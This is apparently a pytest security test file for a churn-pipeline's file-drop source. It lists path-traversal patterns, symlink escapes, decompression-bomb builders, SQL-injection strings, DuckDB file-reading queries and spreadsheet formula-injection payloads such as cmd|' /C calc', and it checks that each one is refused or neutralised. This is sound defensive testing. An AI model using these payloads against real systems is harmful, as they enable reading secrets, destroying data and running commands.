"""What a drop folder may try: ways out of it, special files, bombs, SQL and formulas. Each is tried, none works."""

import bz2
import gzip
import lzma
import os
import socket
import zipfile
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pydantic import ValidationError

from churn_tasks.adapters.source import open_source
from churn_tasks.adapters.warehouse import COLUMNS
from churn_tasks.core.errors import BadInput, ChurnError, NotReady, SettingsError
from churn_tasks.core.formulas import formula_sql, neutral_sql
from churn_tasks.core.months import Month
from churn_tasks.core.source_section import FileDrop
from churn_tasks.work.publication import list_rows
from tests.lakes import put, small_run
from tests.lakes import rows as lake_rows
from tests.sources.drops import MONTH, files_below, rows, settings_for

CSV = "customer,amount\n007,1.50\n"
ROWS = [("007", "1.50")]
SECRET = "the secret of another folder"


@pytest.fixture
def drops(tmp_path: Path) -> Path:
    """A drop folder with one good file, and a secret beside it."""
    (tmp_path / "secret.csv").write_text(f"customer,amount\n{SECRET},1\n")
    folder = tmp_path / "drops"
    folder.mkdir()
    (folder / "a.csv").write_text(CSV)
    return folder


# --- ways out of the folder ---

PATTERNS = [
    "../secret.csv", "../*.csv", "a/../../*.csv", "./../secret.csv", "..", "../", ".././secret.csv",
    "**/../../*.csv", "/etc/passwd", "/etc/*", "//etc/passwd", "/proc/self/environ", "/dev/fd/0", "/proc/self/fd/*",
    "..\\secret.csv", "C:\\secret.csv", "\\\\host\\share\\a.csv", "a.csv\0/../../secret.csv",
    "{month}/../../secret.csv", "{month:../}secret.csv", "{month:/etc/passwd}", "{month:%Y/../../}/../secret.csv",
    "s3://bucket/../../secret.csv", "file:///etc/passwd", "http://127.0.0.1:1/a.csv", "~/secret.csv",
    "$HOME/secret.csv", "%2e%2e/secret.csv", "..%2fsecret.csv", "．．/secret.csv", "..;/secret.csv",
    "....//secret.csv",
]  # fmt: skip


@pytest.mark.parametrize("pattern", PATTERNS)
def test_no_pattern_reaches_out_of_the_folder(
    tmp_path: Path, drops: Path, pattern: str
) -> None:
    with pytest.raises(ChurnError) as caught:
        rows(settings_for(tmp_path, {"path": pattern, "format": "csv"}, drops))
    assert isinstance(caught.value, SettingsError | NotReady | BadInput)
    assert SECRET not in str(caught.value) and "root:" not in str(caught.value)


def test_the_secret_is_there_to_be_read(tmp_path: Path, drops: Path) -> None:
    """Control: joined to the folder without a check, the first pattern reads it."""
    assert SECRET in (drops / PATTERNS[0]).read_text()


@pytest.mark.parametrize(
    "linked", ["file", "folder", "chain", "absolute folder", "root"]
)
def test_links_out_of_the_folder_are_refused(
    tmp_path: Path, drops: Path, linked: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "b.csv").write_text(CSV.replace("007", SECRET))
    if linked == "file":
        (drops / "b.csv").symlink_to("../outside/b.csv")
    elif linked == "chain":
        (drops / "step.txt").symlink_to(outside)
        (drops / "sub").symlink_to(drops / "step.txt")
    else:
        (drops / "sub").symlink_to(
            {"folder": "../outside", "absolute folder": outside, "root": "/"}[linked]
        )
    pattern = {"file": "b.csv", "root": f"sub{outside}/b.csv"}.get(linked, "sub/b.csv")
    assert SECRET in (drops / pattern).read_text(), (
        "control: opening it follows the link"
    )
    with pytest.raises(BadInput, match="links that lead out of"):
        rows(settings_for(tmp_path, pattern, drops))


def test_a_folder_swapped_for_a_link_after_the_check_is_not_followed(
    tmp_path: Path, drops: Path
) -> None:
    """Between finding and opening: every step of the path is opened without following links."""
    from churn_tasks.adapters.source.folder import Folder

    (drops / "sub").mkdir()
    (drops / "sub" / "b.csv").write_text(CSV)
    (found,) = Folder(drops).matching("sub/b.csv")
    (drops / "sub").rename(drops / "was")
    (drops / "sub").symlink_to(tmp_path)
    (tmp_path / "b.csv").write_text(SECRET)
    assert (drops / "sub" / "b.csv").read_text() == SECRET, "control"
    with pytest.raises(BadInput, match=r"sub/b\.csv cannot be opened"):
        found.open()


@pytest.mark.parametrize("kind", ["pipe", "socket", "device link"])
def test_special_files_are_refused_and_hold_nobody_up(
    tmp_path: Path, drops: Path, kind: str
) -> None:
    target = drops / "b.csv"
    if kind == "pipe":
        os.mkfifo(target)  # opening it would wait for a writer for ever
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(target))
    else:
        target.symlink_to("/dev/zero")
    with pytest.raises(BadInput, match=r"not an ordinary file|lead out of"):
        rows(settings_for(tmp_path, "b.csv", drops))


def test_a_link_to_nothing_is_a_file_that_has_not_come(
    tmp_path: Path, drops: Path
) -> None:
    (drops / "b.csv").symlink_to(drops / "nothing")
    with pytest.raises(NotReady, match="no file matches"):
        rows(settings_for(tmp_path, "b.csv", drops))


# --- bombs ---

BOMB = b"a,b\n" + b"0,0\n" * (8 << 20)  # 32 MB of the same row
PACKED = {
    "b.csv.gz": lambda: gzip.compress(BOMB, 9),
    "b.csv.xz": lambda: lzma.compress(BOMB),
    "b.csv.bz2": lambda: bz2.compress(BOMB),
}


@pytest.mark.parametrize("name", [*PACKED, "b.zip"])
def test_a_bomb_is_refused_before_it_goes_off(
    tmp_path: Path, drops: Path, name: str
) -> None:
    if name == "b.zip":
        with zipfile.ZipFile(drops / name, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("b.csv", BOMB)
    else:
        (drops / name).write_bytes(PACKED[name]())
    with pytest.raises(BadInput, match="decompression bomb"):
        rows(settings_for(tmp_path, name, drops))
    count = "SELECT count(*) FROM lines"
    assert rows(
        settings_for(tmp_path, name, drops, max_unpack_ratio=100_000), count
    ) == [(8 << 20,)], "control"
    with pytest.raises(BadInput, match=r"more than 0\.01 GB.*max_unpacked"):
        rows(
            settings_for(
                tmp_path, name, drops, max_unpack_ratio=100_000, max_unpacked="10MB"
            ),
            count,
        )
    assert files_below(tmp_path / "state") == []


def test_the_limit_is_for_all_files_together(tmp_path: Path, drops: Path) -> None:
    for number in range(3):
        (drops / f"b_{number}.csv.gz").write_bytes(
            gzip.compress(
                b"a\n" + os.urandom(1_300_000).hex(" ").replace(" ", "\n").encode()
            )
        )
    rows(
        settings_for(tmp_path, "b_[01].csv.gz", drops, max_unpacked="10MB"),
        "SELECT 1 FROM lines",
    )
    with pytest.raises(BadInput, match="max_unpacked"):
        rows(
            settings_for(tmp_path, "b_*.csv.gz", drops, max_unpacked="10MB"),
            "SELECT 1 FROM lines",
        )


def test_a_parquet_bomb_is_refused(tmp_path: Path, drops: Path) -> None:
    """Run lengths: a few kB hold 30 million values."""
    pq.write_table(pa.table({"a": pa.repeat(0, 20_000_000)}), drops / "b.parquet")
    assert (drops / "b.parquet").stat().st_size < 100_000
    with pytest.raises(BadInput, match="max_unpacked"):
        rows(settings_for(tmp_path, "b.parquet", drops, max_unpacked="10MB"))


def test_an_xz_file_that_asks_for_gigabytes_is_refused(
    tmp_path: Path, drops: Path
) -> None:
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 29}]
    (drops / "b.csv.xz").write_bytes(lzma.compress(b"a,b\n1,2\n", filters=filters))
    with pytest.raises(BadInput, match="not a whole xz file: Memory usage limit"):
        rows(settings_for(tmp_path, "b.csv.xz", drops))


@pytest.mark.parametrize("inside", [(), ("a.csv", "b.csv"), ("../../a.csv", "b.csv")])
def test_a_zip_holds_exactly_one_file(
    tmp_path: Path, drops: Path, inside: tuple[str, ...]
) -> None:
    with zipfile.ZipFile(drops / "b.zip", "w") as archive:
        for name in inside:
            archive.writestr(name, CSV)
    with pytest.raises(BadInput, match=f"holds {len(inside)} files"):
        rows(settings_for(tmp_path, "b.zip", drops))


@pytest.mark.parametrize(
    "inside",
    ["../../../secret.csv", "/etc/cron.d/x", "..\\..\\x.csv", "a\0.csv", "C:\\x.csv"],
)
def test_the_name_inside_a_zip_is_no_path(
    tmp_path: Path, drops: Path, inside: str
) -> None:
    with zipfile.ZipFile(drops / "b.zip", "w") as archive:
        archive.writestr(inside, CSV)
    before = set(files_below(tmp_path))
    assert rows(settings_for(tmp_path, "b.zip", drops)) == ROWS
    assert set(files_below(tmp_path)) - before == {
        path for path in files_below(tmp_path) if "profile" in path.parts
    }


# --- SQL ---

SQL = [
    "'); DROP VIEW lines; --", "'; COPY (SELECT 1) TO '/tmp/churn-owned'; --", "\"; DROP TABLE x; --", "' OR 1=1 --",
    "') UNION ALL SELECT * FROM read_csv('/etc/passwd') --", "$$; SELECT 1; $$", "\\'; SELECT 1; --", "a'b\"c`d",
    "'||(SELECT content FROM read_text('/etc/passwd'))||'", "}', 'x': 'VARCHAR'}, header=true) --", "*",
    "COLUMNS('.*')", "; ATTACH '/tmp/churn-owned.db'; --", "'/**/OR/**/1=1--", "%27%20OR%201=1", "\u2019 OR 1=1 --",
    "1); INSTALL httpfs; --",
]  # fmt: skip


@pytest.mark.parametrize("payload", SQL)
def test_sql_in_a_file_s_name_is_a_name(
    tmp_path: Path, drops: Path, payload: str
) -> None:
    name = "b" + payload.replace("/", "_")
    (drops / f"{name}.csv").write_text(CSV)
    assert rows(settings_for(tmp_path, "b*.csv", drops)) == ROWS
    assert (
        not Path("/tmp/churn-owned").exists()
        and not Path("/tmp/churn-owned.db").exists()
    )


@pytest.mark.parametrize("payload", SQL)
def test_sql_in_a_column_s_name_and_in_a_value_is_text(
    tmp_path: Path, drops: Path, payload: str
) -> None:
    quoted = '"' + payload.replace('"', '""') + '"'
    (drops / "b.csv").write_text(
        f"customer,x{quoted[1:-1]}\n{quoted},1\n" if '"' not in payload else CSV
    )
    settings = settings_for(tmp_path, {"path": "b.csv", "delimiter": ","}, drops)
    if "," in payload or '"' in payload:
        (drops / "b.csv").write_text(f'customer,"x{quoted[1:-1]}"\n{quoted},1\n')
    assert rows(settings) == [(payload, "1")]
    with open_source(settings, MONTH) as source:
        assert list(source.relations("SELECT * FROM lines")["lines"]) == [
            "customer",
            f"x{payload}".strip(),
        ]
    assert (
        not Path("/tmp/churn-owned").exists()
        and not Path("/tmp/churn-owned.db").exists()
    )


@pytest.mark.parametrize("payload", SQL)
def test_sql_for_a_setting_is_refused(payload: str) -> None:
    with pytest.raises(ValidationError):
        FileDrop(path="a.csv", delimiter=payload if len(payload) > 1 else "a")
    with pytest.raises(ValidationError):
        FileDrop(path="a.csv", quote=payload if len(payload) > 1 else "a")
    with pytest.raises(ValidationError):
        FileDrop(path="a.csv", encoding=payload)
    with pytest.raises(ChurnError):
        Month.parse(payload)


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM read_csv('{out}/secret.csv')", "SELECT * FROM '{out}/secret.csv'",
        "SELECT * FROM read_text('{out}/secret.csv')", "SELECT * FROM read_blob('{out}/secret.csv')",
        "SELECT * FROM glob('{out}/*')", "COPY (SELECT 1) TO '{out}/made.csv'", "ATTACH '{out}/made.db'",
        "SELECT 1; COPY (SELECT 1) TO '{out}/made.csv'", "INSTALL httpfs", "SET enable_external_access = true",
        "EXPORT DATABASE '{out}/made'", "SELECT * FROM read_csv('http://127.0.0.1:1/a.csv')", "DROP VIEW lines",
        "SELECT * FROM lines, read_parquet('/dev/fd/0')", "SELECT * FROM settings", "SELECT getenv('HOME')",
    ],
)  # fmt: skip
def test_a_query_opens_its_relations_and_nothing_else(
    tmp_path: Path, drops: Path, query: str
) -> None:
    control = f"SELECT * FROM read_csv('{tmp_path}/secret.csv')"
    assert SECRET in str(duckdb.sql(control).fetchall()), (
        "control: an open connection reads it"
    )
    with pytest.raises(ChurnError):
        rows(settings_for(tmp_path, "a.csv", drops), query.format(out=tmp_path))
    assert not [path for path in tmp_path.iterdir() if path.name.startswith("made")]


# --- formulas ---

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "\t=1+1", "\tcmd", "\r=1+1", "\rcmd", "\n=1+1", " =1+1",
    "\u3000=1+1", "\u00a0@A1", "\u200b=1", "\ufeff=1", "＝1+1", "＋cmd(1)", "－A1", "＠SUM(A1)", "+IMPORTDATA(1)",
    "-(1)+cmd|x", "+=1", "-@SUM(1)", "=-1", "+A1", "-'x'!A1", "=WEBSERVICE(\"x\")",
]  # fmt: skip
HARMLESS = [
    "-5", "-5.20", "+86 138-0013-8000", "+8613800138000", "+86(138)0013 8000", "-", "--", "—", "- 5", "-1,234.50",
    "-1e5", "+1.5E-3", "-5%", "-无", "- 用户反映信号差", "——无", "(5)", "a=b", "张三", "a@b.cn", "1-2", "8-1", "",
    "－５", "#", "-.5",
]  # fmt: skip


def runs(text: str) -> bool:
    """Whether the rule takes the text for a formula."""
    ((found,),) = duckdb.execute(
        f"SELECT {formula_sql('x')} FROM (SELECT ?::VARCHAR AS x)", [text]
    ).fetchall()
    return bool(found)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_recognised(text: str) -> None:
    assert runs(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_phone_numbers_and_dashes_are_no_formulas(text: str) -> None:
    assert not runs(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_kept_and_harmless_on_its_way_out(
    tmp_path: Path, text: str
) -> None:
    """The list in the lake holds what was delivered; the rows for the warehouse have an apostrophe in front."""
    run = small_run(tmp_path, "2024-01")
    line = dict.fromkeys(("rank", "churn_score", "action_priority", "model_version"), 1)
    line |= {
        "customer_id": text,
        "region_code": text,
        "level": "high",
        "model_name": "m",
    }
    put(run, "out_warning_list", "2024-01", [line | {"feature_set": "f"}])
    (kept,) = lake_rows(run, "out_warning_list")
    assert kept["customer_id"] == kept["region_code"] == text
    (given,) = list_rows(run)
    shown = dict(zip(COLUMNS, given, strict=True))
    assert shown["customer_id"] == shown["region_code"] == f"'{text}"
    assert not runs(shown["region_code"])
    run.close()


def test_harmless_texts_go_out_as_they_are() -> None:
    """Control: an apostrophe before every sign would spoil phone numbers and amounts."""
    for text in HARMLESS:
        asked = f"SELECT {neutral_sql('x')} FROM (SELECT ?::VARCHAR AS x)"
        assert duckdb.execute(asked, [text]).fetchall() == [(text,)]


def test_there_are_as_many_payloads_as_promised() -> None:
    assert len(set(FORMULAS)) >= 20
    assert len(set(PATTERNS)) + len(set(SQL)) >= 49 and len(set(SQL)) >= 17
